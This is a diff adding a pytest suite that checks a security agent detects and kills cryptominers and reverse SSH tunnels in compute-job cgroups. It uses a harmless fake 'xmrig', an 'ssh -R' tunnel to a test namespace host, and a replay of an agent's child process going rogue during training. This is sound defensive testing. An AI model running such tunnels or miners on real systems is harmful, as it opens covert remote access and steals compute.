@@ -1,0 +1,390 @@
+"""Detect and block for real: real agent + collector, test-owned cgroups, a netns "remote host".
+
+The "miner" is a harmless script: it has a miner's name and argv and sends a
+stratum subscribe to a fake pool on loopback. Nothing hashes.
+"""
+
+from __future__ import annotations
+
+import json
+import os
+import socket
+import subprocess
+import sys
+import textwrap
+import threading
+import time
+import uuid
+import zipfile
+from pathlib import Path
+
+import pytest
+
+from tests.conftest import PYTHON, require_bpf, run_in_cgroup
+from tests.remote_host import remote_host
+from tests.services import CLI, ROOT, agent, cli_json, collector, free_port, wait_for_text
+
+pytestmark = pytest.mark.kernel
+
+FAKE_MINER = textwrap.dedent("""\
+    #!/usr/bin/python3
+    # A harmless stand-in for a miner: a stratum handshake to a local fake pool, then idle. No hashing.
+    import json, os, socket, sys, time
+    url = next((a for a in sys.argv if "://" in a), None)
+    port = int(os.environ.get("POOL_PORT", "0")) or int(url.rsplit(":", 1)[1])
+    for dev in ("/dev/nvidiactl", "/dev/nvidia0"):
+        try:
+            os.close(os.open(dev, os.O_RDWR))
+        except OSError:
+            pass
+    s = socket.create_connection(("127.0.0.1", port))
+    s.sendall(json.dumps({"id": 1, "method": "mining.subscribe", "params": ["fake/1.0"]}).encode() + b"\\n")
+    time.sleep(1.5)
+""")
+
+
+class FakePool:
+    """Loopback listener recording what each client sent."""
+
+    def __init__(self) -> None:
+        self.sock = socket.create_server(("127.0.0.1", 0))
+        self.port = self.sock.getsockname()[1]
+        self.received: list[bytes] = []
+        self.accepted = 0
+        threading.Thread(target=self._serve, daemon=True).start()
+
+    def _serve(self) -> None:
+        while True:
+            try:
+                conn, _ = self.sock.accept()
+            except OSError:
+                return
+            self.accepted += 1
+            threading.Thread(target=self._read, args=(conn,), daemon=True).start()
+
+    def _read(self, conn) -> None:
+        conn.settimeout(3)
+        data = b""
+        try:
+            while chunk := conn.recv(4096):
+                data += chunk
+        except OSError:
+            pass
+        self.received.append(data)
+        conn.close()
+
+    def got(self, needle: bytes) -> bool:
+        return any(needle in r for r in self.received)
+
+    def settle(self, timeout: float = 6.0) -> None:
+        """Wait until every accepted connection has been read to its end (or its read timed out)."""
+        deadline = time.monotonic() + timeout
+        while len(self.received) < self.accepted and time.monotonic() < deadline:
+            time.sleep(0.1)
+
+    def close(self) -> None:
+        self.sock.close()
+
+
+@pytest.fixture
+def stack(tmp_path, test_cgroup):
+    """Collector + agent, and a Slurm-like cgroup root that exists before any job (as on a real node)."""
+    require_bpf()
+    port = free_port()
+    host_id = f"test-{uuid.uuid4().hex[:8]}"
+    col = collector(tmp_path, port).start()
+    ag = agent(tmp_path, port, host_id).start()
+    pool = FakePool()
+    st = {"tmp": tmp_path, "port": port, "host": host_id, "pool": pool}
+    wait_policy(st)
+    st["slurm"] = test_cgroup("slurm/uid_0")
+    wait_for_text(tmp_path / "agent.log", f"stratum_egress to {st['slurm'].parent}", timeout=15)
+    yield st
+    pool.close()
+    ag.stop()
+    col.stop()
+
+
+def job_cgroup(st, job: str, step: str = "") -> Path:
+    """A job's cgroup, created and used at once: no waiting for the agent."""
+    path = st["slurm"] / f"job_{job}" / step if step else st["slurm"] / f"job_{job}"
+    path.mkdir(parents=True)
+    return path
+
+
+def apply_policy(st, text: str) -> int:
+    path = st["tmp"] / f"policy-{uuid.uuid4().hex[:6]}.yaml"
+    path.write_text(text)
+    out = subprocess.run([*CLI, "policy", "apply", str(path), "--collector", f"127.0.0.1:{st['port']}", "--json"],
+                         capture_output=True, text=True, cwd=ROOT)
+    assert out.returncode == 0, out.stderr
+    version = int(json.loads(out.stdout)["policy"]["version"])
+    wait_policy(st, version)
+    return version
+
+
+def wait_policy(st, version: int | None = None, timeout: float = 20) -> int:
+    deadline = time.monotonic() + timeout
+    while time.monotonic() < deadline:
+        reply = cli_json(st["port"], "policy", "show")
+        want = version or int(reply["policy"]["version"])
+        if any(a["host_id"] == st["host"] and int(a["version"]) == want for a in reply["agents"]):
+            return want
+        time.sleep(0.2)
+    raise TimeoutError(f"agent never acked policy {version}: {reply}")
+
+
+def alerts(st, job: str, want: set[str] = frozenset(), timeout: float = 15) -> list[dict]:
+    deadline = time.monotonic() + timeout
+    while True:
+        got = cli_json(st["port"], "alerts", "--job", job).get("alerts", [])
+        confirmed = {a["rule_id"] for a in got if a["outcome"].startswith("confirmed") or "monitor" in a["outcome"]}
+        if want <= confirmed or time.monotonic() > deadline:
+            return got
+        time.sleep(0.3)
+
+
+def install_miner(tmp: Path, name: str) -> str:
+    path = tmp / "bin" / name
+    path.parent.mkdir(exist_ok=True)
+    path.write_text(FAKE_MINER)
+    path.chmod(0o755)
+    return str(path)
+
+
+def new_job() -> str:
+    return str(40000 + uuid.uuid4().int % 20000)
+
+
+def test_fake_miner_blocked_in_enforce_mode(stack):
+    job = new_job()
+    cg = job_cgroup(stack, job, "step_0")
+    miner = install_miner(stack["tmp"], "xmrig")
+    url = f"stratum+tcp://127.0.0.1:{stack['pool'].port}"
+    proc = run_in_cgroup(cg, [miner, "-o", url, "-u", "4" + "A" * 94, "--donate-level", "1"], timeout=30)
+    assert proc.returncode == -9                                # killed at exec, in the kernel
+    time.sleep(0.5)
+    assert stack["pool"].accepted == 0                          # it never even connected
+    got = alerts(stack, job, {"miner-binary"})
+    by_rule = {a["rule_id"]: a for a in got}
+    assert by_rule["miner-binary"]["outcome"].startswith("confirmed:")
+    assert "killed at exec in the kernel" in by_rule["miner-binary"]["outcome"]
+    assert "miner-stratum-url" in by_rule and "miner-argv-shape" in by_rule
+    assert by_rule["miner-binary"]["matched"]["exe_name_in"] == "xmrig"
+    assert by_rule["miner-binary"]["job"]["id"] == job
+
+
+def test_fake_miner_only_flagged_in_monitor_mode(stack):
+    job = new_job()
+    cg = job_cgroup(stack, job)          # an existing job switched to monitor mode by the operator
+    apply_policy(stack, f"job_modes: {{'{job}': monitor}}\n")
+    miner = install_miner(stack["tmp"], "xmrig")
+    url = f"stratum+tcp://127.0.0.1:{stack['pool'].port}"
+    proc = run_in_cgroup(cg, [miner, "-o", url, "-u", "4" + "A" * 94], timeout=30)
+    assert proc.returncode == 0                                 # ran to the end
+    assert stack["pool"].got(b"mining.subscribe")               # and its handshake went through
+    got = alerts(stack, job, {"miner-binary", "stratum-handshake"})
+    by_rule = {a["rule_id"]: a for a in got}
+    assert by_rule["miner-binary"]["outcome"] == "alerted (monitor mode)"
+    assert "seen (monitor mode" in by_rule["stratum-handshake"]["outcome"]
+
+
+def test_renamed_miner_with_neutral_argv_caught_by_payload_hook(stack):
+    job = new_job()
+    cg = job_cgroup(stack, job)
+    helper = install_miner(stack["tmp"], "data-prefetch")
+    env = {**os.environ, "POOL_PORT": str(stack["pool"].port)}
+    proc = run_in_cgroup(cg, [helper, "--workers", "4"], env=env, timeout=30)
+    assert proc.returncode == -9                                # sender killed after the drop
+    stack["pool"].settle()
+    assert stack["pool"].accepted == 1                          # it connected...
+    assert not stack["pool"].got(b"mining.subscribe")           # ...but its handshake never arrived
+    got = alerts(stack, job, {"stratum-handshake"})
+    a = next(a for a in got if a["rule_id"] == "stratum-handshake")
+    assert "dropped in the kernel" in a["outcome"]
+    assert any(x["rule_id"] == "stratum-handshake" and x["process"]["comm"] == "data-prefetch" for x in got)
+
+
+@pytest.mark.parametrize("mode", ["enforce", "monitor"])
+def test_reverse_ssh_tunnel_to_netns_sshd(stack, mode):
+    job = new_job()
+    cg = job_cgroup(stack, job)
+    if mode == "monitor":
+        apply_policy(stack, f"job_modes: {{'{job}': monitor}}\n")
+    with remote_host(stack["tmp"]) as remote:
+        argv = ["/usr/bin/ssh", *remote.ssh_args(), "-N", "-R", "127.0.0.1:2222:127.0.0.1:22", f"root@{remote.addr}"]
+        script = f'echo $$ > "{cg}/cgroup.procs" && exec "$@"'
+        tunnel = subprocess.Popen(["/bin/sh", "-c", script, "sh", *argv], stderr=subprocess.PIPE)
+        try:
+            if mode == "enforce":
+                assert tunnel.wait(15) == -9                    # ssh -R never ran
+                assert not remote.listening(2222)
+            else:
+                deadline = time.monotonic() + 15
+                while not remote.listening(2222) and time.monotonic() < deadline:
+                    assert tunnel.poll() is None, tunnel.stderr.read()
+                    time.sleep(0.2)
+                assert remote.listening(2222)                   # the tunnel is up: only flagged
+        finally:
+            if tunnel.poll() is None:
+                tunnel.kill()
+                tunnel.wait(5)
+    got = alerts(stack, job, {"ssh-reverse-tunnel"})
+    a = next(a for a in got if a["rule_id"] == "ssh-reverse-tunnel")
+    assert a["matched"]["argv_short_option_in"] == "-R"
+    assert ("killed at exec in the kernel" in a["outcome"]) == (mode == "enforce")
+
+
+def _wheel(dist: Path) -> str:
+    name = "gpuguard_demo_pkg-0.1-py3-none-any.whl"
+    info = "gpuguard_demo_pkg-0.1.dist-info"
+    with zipfile.ZipFile(dist / name, "w") as z:
+        z.writestr("gpuguard_demo_pkg/__init__.py", "")
+        z.writestr(f"{info}/METADATA", "Metadata-Version: 2.1\nName: gpuguard-demo-pkg\nVersion: 0.1\n")
+        z.writestr(f"{info}/WHEEL", "Wheel-Version: 1.0\nGenerator: test\nRoot-Is-Purelib: true\nTag: py3-none-any\n")
+        z.writestr(f"{info}/RECORD", "")
+    return name
+
+
+TRAINING = textwrap.dedent("""\
+    import os, socket, sys, threading
+    # a "training step": the GPU, a DataLoader-style worker, and torch.distributed-style rendezvous
+    for dev in ("/dev/nvidiactl", "/dev/nvidia0"):
+        try: os.close(os.open(dev, os.O_RDWR))
+        except OSError: pass
+    pid = os.fork()
+    if pid == 0:
+        try: os.close(os.open("/dev/nvidia0", os.O_RDWR))
+        except OSError: pass
+        os._exit(0)
+    os.waitpid(pid, 0)
+    master = socket.create_server(("127.0.0.1", 29500))
+    data = socket.create_server(("127.0.0.1", 0))
+    def rank1():
+        with socket.create_connection(("127.0.0.1", 29500)) as s: s.sendall(b"rank1")
+        with socket.create_connection(("127.0.0.1", data.getsockname()[1])) as s: s.sendall(b"grad" * 1000)
+    t = threading.Thread(target=rank1); t.start()
+    for srv in (master, data):
+        c, _ = srv.accept(); c.recv(65536); c.close()
+    t.join()
+    print("training ok")
+""")
+
+
+def test_benign_gpu_node_traffic_raises_nothing(stack):
+    job = new_job()
+    cg = job_cgroup(stack, job, "step_0")
+    tmp = stack["tmp"]
+    dist = tmp / "index" / "simple" / "gpuguard-demo-pkg"
+    dist.mkdir(parents=True)
+    wheel = _wheel(dist)
+    (dist / "index.html").write_text(f'<html><body><a href="{wheel}">{wheel}</a></body></html>')
+    index_port = free_port()
+    index = subprocess.Popen([sys.executable, "-m", "http.server", str(index_port), "--bind", "127.0.0.1",
+                              "--directory", str(tmp / "index")], stdout=subprocess.DEVNULL,
+                             stderr=subprocess.DEVNULL)
+    with remote_host(tmp) as remote:
+        try:
+            ssh = ["/usr/bin/ssh", *remote.ssh_args()]
+            subprocess.run(["git", "init", "-q", "--bare", str(tmp / "repo.git")], check=True)
+            # 1. ssh -L port-forward for a notebook
+            fwd = subprocess.Popen(["/bin/sh", "-c", f'echo $$ > "{cg}/cgroup.procs" && exec "$@"', "sh", *ssh, "-N",
+                                    "-L", "127.0.0.1:18888:127.0.0.1:8888", f"root@{remote.addr}"])
+            deadline = time.monotonic() + 10
+            while time.monotonic() < deadline:
+                with socket.socket() as s:
+                    if s.connect_ex(("127.0.0.1", 18888)) == 0:
+                        break
+                time.sleep(0.2)
+            assert fwd.poll() is None, "ssh -L died"
+            fwd.kill()
+            fwd.wait(5)
+            # 2. git over ssh
+            env = {**os.environ, "GIT_SSH_COMMAND": " ".join(ssh)}
+            git = run_in_cgroup(cg, ["git", "ls-remote", f"ssh://root@{remote.addr}{tmp / 'repo.git'}"], env=env,
+                                capture_output=True, text=True, timeout=30)
+            assert git.returncode == 0, git.stderr
+            # 3. a pip download from a local index
+            pip = run_in_cgroup(cg, [sys.executable, "-m", "pip", "download", "-q", "--no-deps", "--index-url",
+                                     f"http://127.0.0.1:{index_port}/simple", "-d", str(tmp / "dl"),
+                                     "gpuguard-demo-pkg"], capture_output=True, text=True, timeout=60)
+            assert pip.returncode == 0, pip.stderr
+            assert (tmp / "dl" / wheel).exists()
+            # 4. training: GPU, a forked worker, rendezvous on 29500 and a high data port
+            script = ("mount -t tmpfs tmpfs /dev && mknod /dev/nvidia0 c 195 0 && mknod /dev/nvidiactl c 195 255 "
+                      f'&& exec {PYTHON} -c "$0"')
+            train = run_in_cgroup(cg, ["unshare", "-m", "/bin/sh", "-c", script, TRAINING], capture_output=True,
+                                  text=True, timeout=60)
+            assert train.returncode == 0 and "training ok" in train.stdout, train.stderr
+        finally:
+            index.kill()
+            index.wait(5)
+    time.sleep(3)                                             # let every event reach the collector
+    timeline = cli_json(stack["port"], "timeline", job)
+    kinds = {next(k for k in ("exec", "connect", "gpu_open", "exit", "enforcement", "gap") if k in e["event"])
+             for e in timeline["events"]}
+    assert {"exec", "connect", "gpu_open"} <= kinds            # it was all seen...
+    assert alerts(stack, job, timeout=0) == []                 # ...and none of it raised anything
+    assert "enforcement" not in kinds
+
+
+def test_rome_replay(stack):
+    """Training on the GPU, then an agent's child opens a reverse tunnel and starts a miner."""
+    job = new_job()
+    cg = job_cgroup(stack, job, "step_0")
+    tmp = stack["tmp"]
+    miner = install_miner(tmp, "xmrig")
+    ps = FakePool()                                             # the job's own parameter server
+    with remote_host(tmp) as remote:
+        ssh = " ".join(["/usr/bin/ssh", *remote.ssh_args(), "-N", "-R", "127.0.0.1:2222:127.0.0.1:22",
+                        f"root@{remote.addr}"])
+        rogue = (f"{ssh}; echo tunnel=$?; {miner} -o stratum+tcp://127.0.0.1:{stack['pool'].port} "
+                 f"-u 4{'B' * 94}; echo miner=$?")
+        train = textwrap.dedent(f"""\
+            import os, socket, subprocess, time
+            for dev in ("/dev/nvidiactl", "/dev/nvidia0"):
+                try: os.close(os.open(dev, os.O_RDWR))
+                except OSError: pass
+            out = subprocess.run(["/bin/sh", "-c", {rogue!r}], capture_output=True, text=True).stdout
+            print(out.strip())
+            try: os.close(os.open("/dev/nvidia0", os.O_RDWR))
+            except OSError: pass
+            with socket.create_connection(("127.0.0.1", {ps.port})) as s: s.sendall(b"allreduce step 2")
+            print("training continues")
+        """)
+        script = ("mount -t tmpfs tmpfs /dev && mknod /dev/nvidia0 c 195 0 && mknod /dev/nvidiactl c 195 255 "
+                  f'&& exec {PYTHON} -c "$0"')
+        run = run_in_cgroup(cg, ["unshare", "-m", "/bin/sh", "-c", script, train], capture_output=True, text=True,
+                            timeout=90)
+        assert not remote.listening(2222)
+    assert run.returncode == 0, run.stderr
+    assert "tunnel=137" in run.stdout and "miner=137" in run.stdout   # both killed (128 + SIGKILL)
+    assert "training continues" in run.stdout                        # the job itself untouched
+    time.sleep(0.5)
+    assert ps.got(b"allreduce step 2")
+    ps.close()
+    assert not stack["pool"].got(b"mining.subscribe")
+    got = alerts(stack, job, {"ssh-reverse-tunnel", "miner-binary"})
+    by_rule = {a["rule_id"]: a for a in got}
+    assert "killed at exec in the kernel" in by_rule["ssh-reverse-tunnel"]["outcome"]
+    assert "killed at exec in the kernel" in by_rule["miner-binary"]["outcome"]
+    assert not any(a["process"]["exe"] == PYTHON for a in got)       # nothing against the trainer
+    timeline = cli_json(stack["port"], "timeline", job)
+    story = []
+    for e in timeline["events"]:
+        ev = e["event"]
+        if "exec" in ev and ev["exec"]["filename"] in (PYTHON, "/usr/bin/ssh", miner):
+            story.append(f"exec {os.path.basename(ev['exec']['filename'])}")
+        elif "gpu_open" in ev and not story[-1:] == ["gpu_open"]:
+            story.append("gpu_open")
+        elif "enforcement" in ev:
+            story.append(f"blocked {ev['enforcement']['rule_id']}")
+        elif "connect" in ev and int(ev["connect"]["dport"]) == ps.port:
+            story.append("connect parameter-server")
+    compact = [s for i, s in enumerate(story) if i == 0 or s != story[i - 1]]
+    assert compact[:2] == ["exec python3", "gpu_open"], compact
+    i_ssh = compact.index("blocked ssh-reverse-tunnel")
+    i_miner = compact.index("blocked miner-binary")
+    assert 1 < i_ssh < i_miner < compact.index("connect parameter-server"), compact
+    assert "exec ssh" in compact[: i_ssh + 2] and "exec xmrig" in compact[i_ssh: i_miner + 2]
+    assert timeline["alerts"]
